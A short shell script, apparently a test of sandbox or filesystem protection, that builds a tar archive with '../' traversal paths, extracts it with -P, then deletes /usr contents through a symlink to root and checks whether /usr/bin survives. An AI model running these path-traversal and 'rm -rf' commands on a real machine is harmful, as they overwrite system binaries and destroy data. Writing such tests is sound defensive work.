# An archive that would write outside of where it is unpacked.
cd /tmp && mkdir -p in/a && echo evil > evil
tar cPf a.tar ../../../../../../tmp/evil ../../../../usr/bin/env 2>/dev/null
cd in && tar xPf ../a.tar 2>/dev/null
ln -s / a/root; rm -rf a/root/usr/* 2>/dev/null
ls /usr/bin | grep -c . | awk '{ print ($1 > 50) }'
